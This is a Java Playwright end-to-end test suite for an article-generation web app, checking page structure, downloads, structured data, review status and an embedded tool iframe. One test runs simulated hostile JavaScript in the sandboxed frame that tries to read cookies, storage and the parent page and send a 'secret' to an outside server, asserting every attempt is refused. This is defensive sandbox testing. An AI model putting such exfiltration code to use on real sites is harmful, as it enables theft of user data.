package dev.keywheel.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.microsoft.playwright.Frame;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import com.sun.net.httpserver.HttpServer;
import dev.keywheel.RunningApp;
import dev.keywheel.support.Chromium;
import dev.keywheel.support.HtmlValidity;
import dev.keywheel.support.Look;
import dev.keywheel.support.PageChecks;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * A finished article in a browser: reading, exports and the review; its tool stays confined to its
 * frame.
 */
@Tag("full")
class ArticleIT {
  @AutoClose private static final RunningApp app = RunningApp.withAdministrator();
  private static final String articlePath = Visitor.newArticle(app);

  @RegisterExtension final Chromium chromium = new Chromium();
  private Visitor visitor;

  @BeforeEach
  void openArticle() {
    visitor = new Visitor(app, chromium.open(Look.DESKTOP, app.cookies()));
    visitor.open(articlePath);
    assertThat(visitor.page.getByText("Demo content").first()).isVisible();
  }

  @Test
  void the_article_has_all_its_parts() {
    PageChecks.assertGoodPage(visitor.page);
    assertThat(
            visitor.page.evaluate(
                "() => document.querySelector('.article-picture img').naturalWidth"))
        .isEqualTo(1200);
    assertThat(visitor.page.locator("iframe.tool-frame")).hasCount(1);
    assertThat(visitor.page.locator("#guide")).hasCount(1);
    assertThat(visitor.page.locator(".article-section")).hasCount(2);
    assertThat(visitor.page.locator(".article-answer")).not().hasCount(0);
    assertThat(visitor.page.locator("h1")).hasCount(1);
  }

  @Test
  void a_suggestion_replaces_the_topic_and_keeps_the_options() {
    visitor.open("/articles/new");
    visitor.page.getByLabel("Topic").fill("Mine");
    visitor.page.getByText("Options").click();
    visitor.page.getByLabel("Audience").fill("bakers");
    var suggestion = visitor.page.locator("[data-chosen] .topic-chips a").first();
    suggestion.click();
    assertThat(visitor.page.getByLabel("Topic")).hasValue(suggestion.innerText());
    assertThat(visitor.page.getByLabel("Topic")).isFocused();
    assertThat(visitor.page.getByLabel("Audience")).hasValue("bakers");
  }

  /** Compares with the headings on the page, not with the plan from which both are generated. */
  @Test
  void the_contents_link_to_every_heading_and_nothing_else() {
    var shown = Jsoup.parse(visitor.page.content()).selectFirst("article.article");
    assertContentsMatch(shown);
    var file = downloaded("Download HTML");
    HtmlValidity.assertValid("Download HTML", file);
    var page = Jsoup.parse(file);
    assertContentsMatch(page.selectFirst("article.article"));
    assertThat(page.select("h1")).hasSize(1);
    assertThat(page.select("meta[name=robots]").attr("content")).isEqualTo("noindex");
  }

  @Test
  void the_structured_data_matches_the_shown_text() throws IOException {
    var page = Jsoup.parse(downloaded("Download HTML"));
    var graph =
        new ObjectMapper()
            .readTree(page.select("script[type='application/ld+json']").first().data())
            .get("@graph");
    assertThat(graph).hasSizeGreaterThanOrEqualTo(3);
    var visible = page.selectFirst("article").text();
    for (var thing : graph) {
      switch (thing.get("@type").asText()) {
        case "Article" -> {
          assertThat(page.selectFirst("h1").text()).isEqualTo(thing.get("headline").asText());
          assertThat(page.selectFirst("time").attr("datetime"))
              .startsWith(thing.get("datePublished").asText().substring(0, 16));
          assertThat(page.selectFirst("html").attr("lang"))
              .isEqualTo(thing.get("inLanguage").asText());
        }
        case "FAQPage" -> {
          assertThat(thing.get("mainEntity")).hasSameSizeAs(page.select(".article-answer"));
          for (var question : thing.get("mainEntity")) {
            assertThat(visible).contains(question.get("name").asText());
            var answer = question.get("acceptedAnswer").get("text").asText();
            assertThat(visible).contains(answer.replaceAll("\\s+", " "));
          }
        }
        case "WebApplication" -> assertThat(visible).contains(thing.get("name").asText());
        default -> assertThat(thing.get("@type").asText()).isEqualTo("BreadcrumbList");
      }
    }
  }

  private static void assertContentsMatch(Element article) {
    var listed = article.select(".article-contents a").eachText();
    var headings = article.select("h2, h3").stream().filter(h -> !h.id().equals("toc")).toList();
    assertThat(headings.stream().map(Element::text).toList()).isEqualTo(listed);
    for (var link : article.select(".article-contents a")) {
      var target = article.getElementById(link.attr("href").substring(1));
      assertThat(target).as(link.text()).isNotNull();
      assertThat(target.selectFirst("h2, h3").text()).isEqualTo(link.text());
    }
    assertThat(article.select("h4, h5, h6").stream().map(h -> h.closest("section, details")))
        .doesNotContainNull();
    assertThat(article.select("[id]").eachAttr("id")).doesNotHaveDuplicates();
  }

  private String downloaded(String name) {
    var file = visitor.page.waitForDownload(() -> visitor.follow(name)).path();
    try {
      return Files.readString(file);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  @Test
  void no_download_is_empty() {
    for (var name :
        List.of(
            "Download HTML",
            "Download Markdown",
            "Download ZIP",
            "Download JSON",
            "Download WordPress file")) {
      var file = visitor.page.waitForDownload(() -> visitor.follow(name));
      assertThat(file.failure()).as(name).isNull();
      assertThat(file.path()).as(name).isNotEmptyFile();
    }
  }

  @Test
  void the_downloaded_page_works_from_disk(@TempDir Path folder) throws IOException {
    var file = Files.writeString(folder.resolve("article.html"), downloaded("Download HTML"));
    var page = visitor.page;
    page.navigate(file.toUri().toString());
    var frame = page.locator("iframe");
    frame.scrollIntoViewIfNeeded();
    assertThat(frame.contentFrame().locator("#tool-run")).isVisible();
    assertToolWorks(frame.elementHandle().contentFrame());
    assertThat(page.evaluate("() => document.querySelector('figure img').naturalWidth"))
        .isEqualTo(1200);
    var contents = page.locator(".article-contents a");
    for (int i = 0; i < contents.count(); i++) {
      contents.nth(i).click();
      assertThat(page.locator(":target h2, :target h3").first())
          .hasText(contents.nth(i).innerText());
      assertThat(page.locator(":target").first()).isInViewport();
    }
    assertThat(page.url()).startsWith("file:");
    PageChecks.assertGoodPage(page);
  }

  @Test
  void a_user_marks_the_article_as_reviewed_and_as_a_draft_again() {
    visitor.review();
    assertThat(visitor.page.locator(".article-side").getByText("Reviewed by " + Visitor.EMAIL))
        .isVisible();
    visitor.press("Mark as draft");
    assertThat(visitor.button("Mark as reviewed")).isVisible();
  }

  @Test
  void the_tool_works_in_the_page() {
    assertThat(tool().evaluate("() => window.origin")).isEqualTo("null");
    assertToolWorks(tool());
  }

  @Test
  void a_tool_opened_directly_stays_in_a_frame() {
    var src = visitor.page.locator("iframe.tool-frame").getAttribute("src");
    visitor.open(src);
    assertThat(
            visitor.page.getByRole(
                AriaRole.HEADING, new Page.GetByRoleOptions().setName("Tool").setExact(true)))
        .isVisible();
    assertThat(visitor.page.evaluate("() => window.origin")).isEqualTo(app.url());
    assertToolWorks(tool());
  }

  /** Actions of a hostile tool, executed in the tool's own frame. */
  @Test
  void the_tool_reaches_neither_page_nor_network_nor_storage() throws IOException {
    chromium.tolerate("."); // each refusal is an error on the console
    var requests = new AtomicInteger();
    var outside = countingServer(requests);
    try {
      var address = "http://127.0.0.1:" + outside.getAddress().getPort() + "/?typed=secret";
      var got =
          (Map<?, ?>)
              tool()
                  .evaluate(
                      """
                      async ({outside, own}) => {
                        const tried = {};
                        const attempt = async (name, act) => {
                          try { await act(); tried[name] = 'reached'; } catch { tried[name] = 'refused'; }
                        };
                        await attempt('cookies', () => document.cookie.length);
                        await attempt('local storage', () => localStorage.getItem('x'));
                        await attempt('database', () => new Promise((ok, no) => {
                          const open = indexedDB.open('x'); open.onsuccess = ok; open.onerror = no; }));
                        await attempt('page', () => parent.document.body.innerHTML);
                        await attempt('top', () => { top.location.href = outside; });
                        await attempt('window', () => { if (!window.open || !window.open(outside)) throw 0; });
                        await attempt('fetch outside', () => fetch(outside));
                        await attempt('fetch own', () => fetch(own));
                        await attempt('beacon', () => { if (!navigator.sendBeacon) throw 0; navigator.sendBeacon(outside); throw 0; });
                        await attempt('picture', () => new Promise((ok, no) => {
                          const image = new Image(); image.onload = ok; image.onerror = no; image.src = outside; }));
                        await attempt('script', () => new Promise((ok, no) => {
                          const script = document.createElement('script');
                          script.onload = ok; script.onerror = no; script.src = outside; document.head.append(script); }));
                        await attempt('peer', () => new RTCPeerConnection());
                        setTimeout(() => { location.href = outside; });
                        return tried;
                      }
                      """,
                      Map.of("outside", address, "own", app.url() + "/keys"));
      assertThat(got.values()).as(got.toString()).allMatch("refused"::equals);
      // The last attempt of the frame is to navigate itself: the policy of the page makes the
      // browser show a blocked frame.
      visitor.page.waitForCondition(
          () -> visitor.page.frames().stream().anyMatch(f -> f.url().startsWith("chrome-error")));
      assertThat(requests).hasValue(0);
      assertThat(visitor.page.url()).endsWith(articlePath);
    } finally {
      outside.stop(0);
    }
  }

  private static HttpServer countingServer(AtomicInteger requests) throws IOException {
    var server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    server.createContext(
        "/",
        exchange -> {
          requests.incrementAndGet();
          exchange.getResponseHeaders().set("Access-Control-Allow-Origin", "*");
          exchange.sendResponseHeaders(200, -1);
          exchange.close();
        });
    server.start();
    return server;
  }

  private Frame tool() {
    var element = visitor.page.locator("iframe.tool-frame");
    element.scrollIntoViewIfNeeded();
    assertThat(element.contentFrame().locator("#tool-run")).isVisible();
    return element.elementHandle().contentFrame();
  }

  /** Asserts that the tool gives the expected result for its own first example. */
  private static void assertToolWorks(Frame tool) {
    var example =
        (Map<?, ?>)
            tool.evaluate(
                "() => JSON.parse(document.getElementById('tool-manifest').textContent).tests[0]");
    ((Map<?, ?>) example.get("set")).forEach((id, value) -> set(tool, "#" + id, value.toString()));
    tool.locator("#tool-run").click();
    for (var expected : (List<?>) example.get("expect")) {
      var wanted = (Map<?, ?>) expected;
      var shown = tool.locator("#" + wanted.get("output"));
      assertThat(shown).not().hasText("");
      if (wanted.get("number") instanceof Number number) {
        var text = shown.innerText().replaceAll("[^0-9.-]", "");
        assertThat(Double.parseDouble(text))
            .isCloseTo(number.doubleValue(), org.assertj.core.data.Offset.offset(0.02));
      }
    }
  }

  private static void set(Frame tool, String field, String value) {
    var control = tool.locator(field);
    switch (control.evaluate("e => e.type").toString()) {
      case "select-one" -> control.selectOption(value);
      case "checkbox" -> control.setChecked(value.equals("true") || value.equals("on"));
      default -> control.fill(value);
    }
  }
}
